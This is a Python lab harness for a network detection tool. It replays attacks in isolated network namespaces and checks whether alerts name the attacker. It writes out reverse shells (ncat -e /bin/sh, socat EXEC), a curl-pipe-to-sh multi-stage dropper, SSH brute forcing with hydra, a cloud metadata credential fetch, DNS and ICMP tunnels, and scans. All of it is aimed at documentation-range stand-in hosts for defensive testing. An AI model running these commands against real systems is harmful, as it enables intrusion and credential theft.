"""Attack scenarios with real tools in a lab node (lab/netns.py): each builds pods as network
namespaces on a bridge, keeps a client busy with ordinary HTTP, runs the attack, records the bridge
with tcpdump, and scores the capture as ``kubesonar analyze --internal-network 10.77.0.0/24`` does (the
node's pod range named as the cluster's): cold, on a fresh embedded default with its default learning
period, so only rules that need no baseline can name the attacker.

The tools are the real programs (Debian packages): nmap, masscan, hping3, hydra with OpenSSH, curl,
iodine/iodined, dns2tcpc/dns2tcpd, ptunnel-ng, ncat, socat, dnsmasq and openssl s_server, each against
its own server in another pod, and sh running what an attacker's scripts run; small clients where no
packaged tool exists are in lab/lab_tools.py. A pod that resolves names asks dnsmasq in a pod of its
own, as pods ask the cluster's DNS (``Node.resolve_with``).

Hosts outside the cluster (a pool, a command server) are lab pods given documentation addresses
(RFC 5737) reachable over the bridge only; the metadata stand-in holds 169.254.169.254. No route
leads off the machine, and every tool run is bounded in count and time.
"""

from __future__ import annotations

import math
import random
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from lab.netns import POD_NETWORK, SUBNET, LabUnavailable, Node, namespace_node, require_netns
from lab.raised import Raised, raised

TOOL = [sys.executable, str(Path(__file__).with_name("lab_tools.py"))]  # a script: runs from any directory
QUIET = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
POOL_IP, C2_IP, METADATA_IP = "203.0.113.77", "198.51.100.50", "169.254.169.254"
TUNNEL_NS_IP, RELAY_IP = "198.51.100.53", "198.51.100.60"  # an attacker's name server; an ICMP relay


@dataclass(frozen=True)
class Scenario:
    name: str
    tool: str  # what ran, as a reader would rerun it
    expected: str  # the rule that must name the actor (a|b: either)
    actor: str  # the attacking pod
    pods: tuple[str, ...]  # pods besides web and client
    attack: Callable[[Node, Path], None]
    needs: tuple[str, ...] = ()


@dataclass
class ScenarioResult:
    name: str
    tool: str
    expected: str
    actor_ip: str = ""
    alerts: list[Raised] = field(default_factory=list)
    bystanders: list[str] = field(default_factory=list)  # addresses of the pods that did nothing wrong
    skipped: str = ""
    error: str = ""

    @property
    def verdict(self) -> str:
        if self.skipped:
            return "skipped"
        if self.error:
            return "error"
        wanted = set(self.expected.split("|"))
        return "detected" if any(a.named(wanted) and a.ip == self.actor_ip for a in self.alerts) else "missed"

    @property
    def false_alarms(self) -> list[Raised]:
        """Alerts naming a pod that did nothing wrong."""
        return [a for a in self.alerts if a.ip in self.bystanders]


def _serve_http(node: Node, pod: str, address: str, port: int, root: Path) -> subprocess.Popen:
    return node.start(pod, sys.executable, "-m", "http.server", str(port), "--bind", address, "--directory",
                      str(root), **QUIET)


def _hping3(node: Node, work: Path) -> None:
    node.run("attacker", "hping3", "--scan", "1-600", "-S", node.pods["web"], check=True, capture_output=True,
             timeout=120)


def _nmap(node: Node, work: Path) -> None:
    node.run("attacker", "nmap", "-n", "-Pn", "-T4", "--max-retries", "1", "-sS", "-p", "1-1000", node.pods["web"],
             check=True, capture_output=True, timeout=120)


def _masscan(node: Node, work: Path) -> None:
    web = node.pods["web"]  # masscan has its own TCP stack: name its interface, ARP the target directly
    node.run("attacker", "masscan", web, "-p1-500,8080", "--rate", "2000", "--wait", "2", "--interface",
             node.interface("attacker"), "--router-ip", web, check=True, capture_output=True, timeout=120)


def _ssh_brute_force(node: Node, work: Path) -> None:
    bastion = node.pods["bastion"]
    key = work / "host_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    config = work / "sshd_config"
    config.write_text(f"Port 22\nListenAddress {bastion}\nHostKey {key}\nPidFile {work / 'sshd.pid'}\n"
                      "PasswordAuthentication yes\nKbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\n"
                      "MaxStartups 100\nLoginGraceTime 10\n")
    Path("/run/sshd").mkdir(exist_ok=True)  # privilege separation directory
    sshd = node.start("bastion", "/usr/sbin/sshd", "-D", "-e", "-f", str(config), **QUIET)
    words = work / "passwords.txt"
    words.write_text("\n".join(f"Winter{year}!{i}" for year in range(2016, 2026) for i in range(10)) + "\n")
    try:
        time.sleep(1.0)
        node.run("attacker", "hydra", "-l", "admin", "-P", str(words), "-I", "-q", f"ssh://{bastion}",
                 capture_output=True, timeout=240)  # hydra's default 16 tasks
    finally:
        sshd.kill()
        sshd.wait(timeout=10)


def _stratum(node: Node, work: Path) -> None:
    node.add_address("pool", POOL_IP)
    pool = node.start("pool", *TOOL, "stratum-pool", POOL_IP, "3333", "30", **QUIET)
    try:
        time.sleep(1.0)
        node.run("gpu", *TOOL, "stratum-client", POOL_IP, "3333", "5", check=True, capture_output=True, timeout=60)
    finally:
        pool.kill()
        pool.wait(timeout=10)


def _metadata(node: Node, work: Path) -> None:
    node.add_address("imds", METADATA_IP)
    creds = work / "imds" / "latest" / "meta-data" / "iam" / "security-credentials"
    creds.mkdir(parents=True)
    (creds / "node-role").write_text('{"AccessKeyId": "ASIA-LAB", "SecretAccessKey": "lab", "Token": "lab"}')
    server = _serve_http(node, "imds", METADATA_IP, 80, work / "imds")
    try:
        time.sleep(1.0)
        node.run("app", "curl", "-sf", "--max-time", "5",
                 f"http://{METADATA_IP}/latest/meta-data/iam/security-credentials/node-role",
                 check=True, capture_output=True, timeout=30)
    finally:
        server.kill()
        server.wait(timeout=10)


def _beacon(node: Node, work: Path) -> None:
    _http_check_ins(node, work, 8443, count=25, period_s=2.0)


def _http_check_ins(node: Node, work: Path, port: int, count: int, period_s: float) -> None:
    """An implant fetching its task over cleartext HTTP from the C2 on ``port``, ``count`` times, every
    ``period_s`` seconds (+-20%)."""
    node.add_address("c2", C2_IP)
    (work / "c2").mkdir()
    (work / "c2" / "task").write_text("sleep\n")
    server = _serve_http(node, "c2", C2_IP, port, work / "c2")
    try:
        time.sleep(1.0)
        node.run("implant", *TOOL, "beacon", f"http://{C2_IP}:{port}/task", str(count), str(period_s), "0.2",
                 check=True, capture_output=True, timeout=30 + 2 * count * period_s)
    finally:
        _stop(server)


def _stop(*procs: subprocess.Popen | None) -> None:
    """End what a scenario started, each by its own process id."""
    for proc in procs:
        if proc is None:
            continue
        proc.terminate()
        try:
            proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=10)


def _echo_server(node: Node, pod: str, address: str, port: int) -> subprocess.Popen:
    """What a tunnel reaches on its far side: socat echoing every connection back."""
    return node.start(pod, "socat", f"TCP-LISTEN:{port},bind={address},fork,reuseaddr", "EXEC:cat", **QUIET)


def _drive_tunnel(node: Node, pod: str, port: int, chunks: int) -> None:
    """A session through the tunnel's local end: ``chunks`` 4 kB writes a second apart, each echoed back."""
    node.run(pod, *TOOL, "tunnel-client", "127.0.0.1", str(port), str(chunks), "4096", "1.0", check=True,
             capture_output=True, timeout=90)


def _iodine(node: Node, work: Path) -> None:
    """iodine's client in the victim, iodined on the attacker's name server; ``-r`` keeps it in DNS
    (iodine otherwise switches to raw UDP when it can reach the server directly)."""
    node.add_address("ns", TUNNEL_NS_IP)
    server = node.start("ns", "iodined", "-f", "-c", "-l", TUNNEL_NS_IP, "-P", "lab-tunnel", "10.99.0.1/27",
                        "t.tunnel-lab.example", **QUIET)
    echo = client = None
    try:
        time.sleep(1.0)
        echo = _echo_server(node, "ns", "10.99.0.1", 7777)
        client = node.start("victim", "iodine", "-f", "-r", "-P", "lab-tunnel", TUNNEL_NS_IP, "t.tunnel-lab.example",
                            **QUIET)
        _wait_for(lambda: node.run("victim", "ip", "addr", "show", "dns0", capture_output=True).returncode == 0, 20)
        time.sleep(3.0)  # iodine probes the fragment size before it carries data
        node.run("victim", *TOOL, "tunnel-client", "10.99.0.1", "7777", "8", "2048", "1.0", check=True,
                 capture_output=True, timeout=120)
    finally:
        _stop(client, echo, server)


def _dns2tcp(node: Node, work: Path) -> None:
    """dns2tcpc in the victim, dns2tcpd on the attacker's name server with one resource (an echo server)."""
    node.add_address("ns", TUNNEL_NS_IP)
    config = work / "dns2tcpd.conf"
    config.write_text(f"listen = {TUNNEL_NS_IP}\nport = 53\nuser = root\ndomain = d2.tunnel-lab.example\n"
                      f"resources = echo:{TUNNEL_NS_IP}:7777\n")
    echo = _echo_server(node, "ns", TUNNEL_NS_IP, 7777)
    server = node.start("ns", "dns2tcpd", "-F", "-f", str(config), **QUIET)
    client = None
    try:
        time.sleep(1.0)
        client = node.start("victim", "dns2tcpc", "-z", "d2.tunnel-lab.example", "-r", "echo", "-l", "2222",
                            TUNNEL_NS_IP, **QUIET)
        time.sleep(2.0)
        _drive_tunnel(node, "victim", 2222, 6)
    finally:
        _stop(client, server, echo)


def _dns_over_tcp(node: Node, work: Path) -> None:
    """dnsmasq as the attacker's name server for its zone (every name local: answered NXDOMAIN), and
    tunnel-shaped TXT questions to it over one TCP connection, as a tunnel picking TCP sends them."""
    node.add_address("ns", TUNNEL_NS_IP)
    server = node.start("ns", "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
                        f"--listen-address={TUNNEL_NS_IP}", "--bind-interfaces", "--port=53", "--user=root",
                        f"--pid-file={work / 'dnsmasq.pid'}", "--local=/tcp.tunnel-lab.example/", **QUIET)
    try:
        time.sleep(1.0)
        node.run("victim", *TOOL, "dns-tunnel", TUNNEL_NS_IP, "tcp.tunnel-lab.example", "dnscat2", "30", "0.05",
                 "--tcp", check=True, capture_output=True, timeout=60)
    finally:
        _stop(server)


def _ptunnel(node: Node, work: Path) -> None:
    """ptunnel-ng's client in the victim, its proxy on a relay outside; the relay's kernel stops answering
    pings so that the proxy's own replies carry the data back."""
    node.add_address("relay", RELAY_IP)
    node.run("relay", "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1", check=True)
    # the proxy answers from a raw socket: make the relay's outside address the source the kernel picks
    node.run("relay", "ip", "route", "replace", f"{SUBNET}.0/24", "dev", node.interface("relay"), "src", RELAY_IP,
             check=True)
    echo = _echo_server(node, "relay", RELAY_IP, 7777)
    server = node.start("relay", "ptunnel-ng", f"-r{RELAY_IP}", "-R7777", "-v", "-1", **QUIET)
    client = None
    try:
        time.sleep(1.0)
        client = node.start("victim", "ptunnel-ng", f"-p{RELAY_IP}", "-l2223", f"-r{RELAY_IP}", "-R7777", "-v", "-1",
                            **QUIET)
        time.sleep(1.5)
        _drive_tunnel(node, "victim", 2223, 10)
    finally:
        _stop(client, server, echo)


SHELL_COMMANDS = ("id", "uname -a", "hostname", "ls -la /", "cat /etc/os-release", "ps aux | head -5",
                  "ls /var/run/secrets 2>&1", "env | grep -i kube | head -3", "df -h | head -3", "exit")


def _reverse_shell(listener: list[str], shell: list[str], keystrokes: bool, pod: str = "web"
                   ) -> Callable[[Node, Path], None]:
    """``pod`` connects out to the operator's listener and hands it a shell: the web pod (a server, as
    after a remote code execution), or a worker that serves nothing (as a poisoned dependency's install
    script runs in a Job); the operator types a short session at a human pace, whole lines or key by key."""

    def attack(node: Node, work: Path) -> None:
        node.add_address("c2", C2_IP)
        operator = node.start("c2", *listener, stdin=subprocess.PIPE, **QUIET)
        victim = None
        try:
            time.sleep(1.0)
            victim = node.start(pod, *shell, **QUIET)
            time.sleep(2.0)
            _operate(operator, keystrokes)
        finally:
            _stop(victim, operator)

    return attack


def _operate(operator: subprocess.Popen, keystrokes: bool) -> None:
    """The operator at the listener types SHELL_COMMANDS at a human pace, whole lines or key by key."""
    rng = random.Random(17)
    for command in SHELL_COMMANDS:
        if keystrokes:
            for char in command + "\n":
                operator.stdin.write(char.encode())
                operator.stdin.flush()
                time.sleep(rng.uniform(0.08, 0.25))
        else:
            operator.stdin.write((command + "\n").encode())
            operator.stdin.flush()
        # reading the output, thinking: people's think times are log-normal (a median of a
        # couple of seconds, now and then much longer), bounded here so the scenario ends
        time.sleep(min(8.0, rng.lognormvariate(math.log(2.0), 0.8)))


def _tls_server(node: Node, work: Path, *mode: str) -> subprocess.Popen:
    """openssl s_server as the command server on 443 with a fresh self-signed certificate."""
    key, cert = work / "c2.key", work / "c2.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
                    "-subj", "/CN=update.c2-lab.example", "-days", "2", "-keyout", str(key), "-out", str(cert)],
                   check=True, capture_output=True)
    return node.start("c2", "openssl", "s_server", "-accept", f"{C2_IP}:443", "-cert", str(cert), "-key", str(key),
                      *mode, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=work)


def _tls_beacon_session(node: Node, work: Path) -> None:
    """Mutual TLS as implants hold it: the implant shows a certificate, the server (s_server -Verify) asks
    for one, and a small heartbeat goes each way every 2 s inside one connection."""
    node.add_address("c2", C2_IP)
    key, cert = work / "implant.key", work / "implant.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
                    "-subj", "/CN=implant", "-days", "2", "-keyout", str(key), "-out", str(cert)],
                   check=True, capture_output=True)
    server = _tls_server(node, work, "-rev", "-Verify", "1", "-CAfile", str(cert))
    try:
        time.sleep(1.0)
        node.run("implant", *TOOL, "tls-beacon", C2_IP, "443", "session", "30", "2.0", "0.1", "--cert", str(cert),
                 "--key", str(key), check=True, capture_output=True, timeout=120)
    finally:
        _stop(server)


def _tls_beacon_connections(node: Node, work: Path) -> None:
    """A new TLS connection every 2 s, each an HTTPS GET of the task file (s_server -WWW)."""
    node.add_address("c2", C2_IP)
    (work / "task").write_text("sleep\n")
    server = _tls_server(node, work, "-WWW")
    try:
        time.sleep(1.0)
        node.run("implant", *TOOL, "tls-beacon", C2_IP, "443", "connections", "25", "2.0", "0.1", check=True,
                 capture_output=True, timeout=120)
    finally:
        _stop(server)


def _rat_on_port_80(node: Node, work: Path) -> None:
    """A RAT speaking its own binary protocol over port 80 (egress filters let 80 out), reconnecting:
    three sessions of three random 1 kB messages to its server, each echoed back."""
    node.add_address("c2", C2_IP)
    server = _echo_server(node, "c2", C2_IP, 80)
    try:
        time.sleep(1.0)
        for _ in range(3):
            node.run("implant", *TOOL, "tunnel-client", C2_IP, "80", "3", "1024", "0.2", check=True,
                     capture_output=True, timeout=60)
    finally:
        _stop(server)


def _http_on_443(node: Node, work: Path) -> None:
    """A check-in over cleartext HTTP on port 443, as a malleable HTTP profile on a TLS port does."""
    _http_check_ins(node, work, 443, count=3, period_s=0.5)


def _tool_download(node: Node, work: Path) -> None:
    """Kinsing's first step: ``curl`` in the victim fetches a binary (a copy of /bin/true) over plain HTTP
    from python -m http.server on a host outside."""
    node.add_address("c2", C2_IP)
    (work / "drop").mkdir()
    shutil.copy("/bin/true", work / "drop" / "kinsing")
    server = _serve_http(node, "c2", C2_IP, 80, work / "drop")
    try:
        time.sleep(1.0)
        node.run("victim", "curl", "-sf", "--max-time", "10", "-o", str(work / "kinsing.got"),
                 f"http://{C2_IP}/kinsing", check=True, capture_output=True, timeout=30)
    finally:
        _stop(server)


def _tool_stream(node: Node, work: Path) -> None:
    """A stager's shape: the victim connects to an ncat listener outside, which sends it an ELF (a copy of
    /bin/true) over the raw stream and closes."""
    node.add_address("c2", C2_IP)
    stage = work / "stage"
    shutil.copy("/bin/true", stage)
    with stage.open("rb") as source:
        server = node.start("c2", "ncat", "-l", C2_IP, "4446", "--send-only", stdin=source, **QUIET)
    try:
        time.sleep(1.0)
        with (work / "stage.got").open("wb") as got:
            node.run("victim", "ncat", "--recv-only", C2_IP, "4446", stdout=got, stderr=subprocess.DEVNULL,
                     check=True, timeout=30)
    finally:
        _stop(server)


STAGE_ONE = """#!/bin/sh
# stage 1, as Kinsing's and TeamTNT's d.sh: fetch the next stage with curl (else wget), make it
# executable and run it; here the stage is the channel home itself, a shell handed to the operator
cd {workdir}
curl -sf --max-time 10 -o kinsing http://{c2}/kinsing || wget -q -O kinsing http://{c2}/kinsing
chmod +x kinsing
exec ./kinsing {c2} {port} -e /bin/sh
"""


def _multi_stage(node: Node, work: Path) -> None:
    """A Kubernetes compromise as Kinsing and TeamTNT run it: a remote code execution in the web pod (a
    server) runs ``curl -s http://IP/d.sh | sh``; the stage-1 script fetches the stage-2 binary over
    plain HTTP from the same host outside (a copy of ncat, an ELF) and runs it, which connects back to
    the operator's listener on an odd port and hands it a shell; the operator types a short session."""
    node.add_address("c2", C2_IP)
    drop, landing = work / "drop", work / "web-tmp"  # the attacker's web root; where the script lands in the pod
    drop.mkdir()
    landing.mkdir()
    (drop / "d.sh").write_text(STAGE_ONE.format(workdir=landing, c2=C2_IP, port=4448))
    shutil.copy(shutil.which("ncat"), drop / "kinsing")
    server = _serve_http(node, "c2", C2_IP, 80, drop)
    operator = node.start("c2", "ncat", "-l", C2_IP, "4448", stdin=subprocess.PIPE, **QUIET)
    victim = None
    try:
        time.sleep(1.0)
        victim = node.start("web", "sh", "-c", f"curl -sf --max-time 10 http://{C2_IP}/d.sh | sh", **QUIET)
        time.sleep(3.0)  # two downloads, then the connection back
        _operate(operator, keystrokes=False)
    finally:
        _stop(victim, operator, server)


C2_NAME = "telemetry.c2-lab.example"  # the check-in's command server, known to the lab's name server
CHECK_IN_HANDLER = """cr=$(printf '\\r')
length=0
while read -r line; do
    line=${line%"$cr"}
    [ -z "$line" ] && break
    case "$line" in [Cc]ontent-[Ll]ength:*) length=$((${line#*:})) ;; esac
done
head -c "$length" >/dev/null
printf 'HTTP/1.1 200 OK\\r\\nContent-Type: text/plain\\r\\nContent-Length: 6\\r\\nConnection: close\\r\\n\\r\\nsleep\\n'
"""


def _http_post_check_ins(node: Node, work: Path) -> None:
    """An HTTP implant's first check-ins to its panel, as stealers and loaders post to a gate script
    (Lokibot's fre.php, AgentTesla's HTTP panel): it resolves its command server by name through the
    cluster's name server (dnsmasq in a pod, answering the C2's name), then POSTs a small body (its id
    and host name) with curl to port 80 five times, about every 12 s +-30%; a socat gate reads each
    request and answers a task. Few check-ins, a name, the port's own protocol: the quiet end of C2."""
    node.add_address("c2", C2_IP)
    dns = node.start("dns", "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
                     f"--listen-address={node.pods['dns']}", "--bind-interfaces", "--port=53", "--user=root",
                     f"--pid-file={work / 'dnsmasq.pid'}", f"--address=/{C2_NAME}/{C2_IP}", **QUIET)
    node.resolve_with("implant", node.pods["dns"])
    handler = work / "gate.sh"
    handler.write_text(CHECK_IN_HANDLER)
    gate = node.start("c2", "socat", f"TCP-LISTEN:80,bind={C2_IP},fork,reuseaddr", f"EXEC:sh {handler}", **QUIET)
    rng = random.Random(17)
    pauses = [12.0 * rng.uniform(0.7, 1.3) for _ in range(4)]
    try:
        time.sleep(1.0)
        node.run("implant", "sh", "-c", check_in_script(C2_NAME, pauses), check=True, capture_output=True,
                 timeout=30 + sum(pauses))
    finally:
        _stop(gate, dns)


def check_in_script(server: str, pauses: list[float]) -> str:
    """The implant's shell script: a POST to ``server``'s gate, then each pause, then the last POST. It
    stops at the first POST that fails (a name the pod's resolver did not answer, a gate not listening),
    so a check-in that never left is the scenario's error, never one more quiet miss."""
    posts = "".join(f'curl -s -m 5 -o /dev/null -d "id=$id&host=$(hostname)&seq={i}" http://{server}/gate.php\n'
                    f"sleep {pause:.2f}\n" for i, pause in enumerate([*pauses, 0.0]))
    return "set -e\nid=$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \\n')\n" + posts


def _wait_for(ready: Callable[[], bool], seconds: float) -> None:
    end = time.monotonic() + seconds
    while not ready():
        if time.monotonic() > end:
            raise TimeoutError(f"not ready after {seconds:g} s")
        time.sleep(0.2)


SCENARIOS = (
    Scenario("hping3 SYN scan", "hping3 --scan 1-600 -S", "port_scan", "attacker", ("attacker",), _hping3, ("hping3",)),
    Scenario("nmap SYN scan", "nmap -sS -p 1-1000", "port_scan", "attacker", ("attacker",), _nmap, ("nmap",)),
    Scenario("masscan", "masscan -p1-500,8080 --rate 2000", "port_scan", "attacker", ("attacker",), _masscan,
             ("masscan",)),
    Scenario("SSH brute force", "hydra (16 tasks, 100 passwords) against OpenSSH sshd", "brute_force", "attacker",
             ("attacker", "bastion"), _ssh_brute_force, ("hydra", "ssh-keygen", "/usr/sbin/sshd")),
    Scenario("Stratum miner", "Stratum v1 client (subscribe, authorize, 5 submits) to a pool stand-in on 3333",
             "crypto_mining", "gpu", ("gpu", "pool"), _stratum),
    Scenario("metadata credential theft", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
             "metadata_access", "app", ("app", "imds"), _metadata, ("curl",)),
    Scenario("jittered beacon", "HTTP check-in every 2 s +-20%, 25 times, to 198.51.100.50:8443", "beaconing",
             "implant", ("implant", "c2"), _beacon),
    Scenario("iodine DNS tunnel", "iodine -r to iodined (NULL queries), 8 echoed 2 kB writes through it",
             "dns_tunneling", "victim", ("victim", "ns"), _iodine, ("/usr/sbin/iodine", "/usr/sbin/iodined", "socat")),
    Scenario("dns2tcp DNS tunnel", "dns2tcpc to dns2tcpd (TXT queries), 6 echoed 4 kB writes through it",
             "dns_tunneling", "victim", ("victim", "ns"), _dns2tcp, ("dns2tcpc", "dns2tcpd", "socat")),
    Scenario("DNS tunnel over TCP", "30 dnscat2-shaped TXT questions over one TCP connection to dnsmasq, the zone's "
             "name server", "dns_tunneling", "victim", ("victim", "ns"), _dns_over_tcp, ("/usr/sbin/dnsmasq",)),
    Scenario("ptunnel-ng ICMP tunnel", "ptunnel-ng client to its proxy over ICMP echo, 10 echoed 4 kB writes",
             "icmp_tunneling", "victim", ("victim", "relay"), _ptunnel, ("ptunnel-ng", "socat")),
    Scenario("ncat reverse shell", "ncat -e /bin/sh from the web pod to ncat -l on 4444; 10 commands typed as lines",
             "reverse_shell", "web", ("c2",),
             _reverse_shell(["ncat", "-l", C2_IP, "4444"], ["ncat", C2_IP, "4444", "-e", "/bin/sh"], keystrokes=False),
             ("ncat",)),
    Scenario("socat reverse shell (pty)", "socat EXEC:sh,pty from the web pod to socat on 4445; 10 commands typed "
             "key by key", "reverse_shell", "web", ("c2",),
             _reverse_shell(["socat", "-", f"TCP-LISTEN:4445,bind={C2_IP}"],
                            ["socat", f"TCP:{C2_IP}:4445", "EXEC:/bin/sh -i,pty,stderr,setsid,sane"], keystrokes=True),
             ("socat",)),
    Scenario("ncat reverse shell from a worker", "ncat -e /bin/sh from a worker pod that serves nothing to ncat -l "
             "on 4449; 10 commands typed as lines", "reverse_shell", "worker", ("worker", "c2"),
             _reverse_shell(["ncat", "-l", C2_IP, "4449"], ["ncat", C2_IP, "4449", "-e", "/bin/sh"], keystrokes=False,
                            pod="worker"),
             ("ncat",)),
    Scenario("TLS beacon in one mTLS session", "Python ssl client with a certificate, a heartbeat every 2 s +-10% "
             "x30 in one connection, to openssl s_server -rev -Verify on 443", "beaconing", "implant",
             ("implant", "c2"), _tls_beacon_session, ("openssl",)),
    Scenario("TLS beacon, a connection each", "Python ssl client, no SNI, an HTTPS GET every 2 s +-10% x25, to "
             "openssl s_server -WWW on 443", "beaconing", "implant", ("implant", "c2"), _tls_beacon_connections,
             ("openssl",)),
    Scenario("RAT protocol on port 80", "Python client, 3 sessions of 3 random 1 kB messages, to socat echoing on "
             "198.51.100.50:80", "unusual_destination", "implant", ("implant", "c2"), _rat_on_port_80, ("socat",)),
    Scenario("cleartext HTTP on 443", "HTTP check-in every 0.5 s +-20%, 3 times, to python -m http.server on "
             "198.51.100.50:443", "unusual_destination", "implant", ("implant", "c2"), _http_on_443),
    Scenario("ELF download over HTTP", "curl http://198.51.100.50/kinsing (a copy of /bin/true) from python -m "
             "http.server", "tool_transfer", "victim", ("victim", "c2"), _tool_download, ("curl",)),
    Scenario("ELF over a raw stream", "ncat --recv-only to ncat -l --send-only on 198.51.100.50:4446 sending a copy "
             "of /bin/true", "tool_transfer", "victim", ("victim", "c2"), _tool_stream, ("ncat",)),
    Scenario("multi-stage infection", "curl http://198.51.100.50/d.sh | sh in the web pod; the script curls a stage "
             "2 (a copy of ncat) and runs it as ncat -e /bin/sh to ncat -l on 4448; 10 commands typed as lines",
             "beaconing|unusual_destination", "web", ("c2",), _multi_stage, ("curl", "ncat")),
    Scenario("HTTP check-in, a few POSTs", f"curl -d ... http://{C2_NAME}/gate.php (resolved by dnsmasq in a pod) "
             "5 times every 12 s +-30%, to a socat gate on 198.51.100.50:80", "beaconing|unusual_destination",
             "implant", ("implant", "c2", "dns"), _http_post_check_ins, ("curl", "socat", "/usr/sbin/dnsmasq")),
)


def run_scenario(scenario: Scenario, workdir: Path | None = None) -> ScenarioResult:
    """Run one scenario in a fresh lab node and score its capture."""
    from kubesonar.compose import analyze

    result = ScenarioResult(scenario.name, scenario.tool, scenario.expected)
    missing = [t for t in ("tcpdump", *scenario.needs) if not shutil.which(t)]  # names or absolute paths
    if missing:
        result.skipped = f"{', '.join(missing)} not installed"
        return result
    try:
        require_netns()
    except LabUnavailable as exc:
        result.skipped = str(exc)
        return result
    with tempfile.TemporaryDirectory(prefix="kubesonar-lab-", dir=workdir) as tmp, \
            namespace_node(["web", "client", *scenario.pods]) as node:
        work = Path(tmp)
        web = node.pods["web"]
        (work / "site").mkdir()
        (work / "site" / "index.html").write_text("<p>shop</p>\n")
        capture = work / "node.pcap"
        server = _serve_http(node, "web", web, 8080, work / "site")
        dump = subprocess.Popen(["tcpdump", "-i", node.bridge, "-w", str(capture), "-U", "-s", "928"], **QUIET)
        client = None
        try:
            time.sleep(1.5)  # servers listening, tcpdump capturing
            client = node.start("client", *TOOL, "http-client", f"http://{web}:8080/", "240", "0.05", **QUIET)
            scenario.attack(node, work)
            time.sleep(1.0)
        except (subprocess.SubprocessError, OSError) as exc:
            result.error = f"{type(exc).__name__}: {exc}"
        finally:
            for proc in (client, server):
                if proc is not None:
                    proc.kill()
                    proc.wait(timeout=10)
            time.sleep(0.5)
            dump.terminate()
            dump.wait(timeout=10)
        result.actor_ip = node.pods[scenario.actor]
        result.bystanders = [ip for pod, ip in node.pods.items() if pod != scenario.actor]
        if not result.error:
            outcome = analyze([str(capture)], internal_networks=(POD_NETWORK,))
            result.alerts = raised(outcome.alerts)
    return result


def run_scenarios(progress: Callable[[str], None] | None = None) -> list[ScenarioResult]:
    results = []
    for scenario in SCENARIOS:
        if progress:
            progress(scenario.name)
        results.append(run_scenario(scenario))
    return results
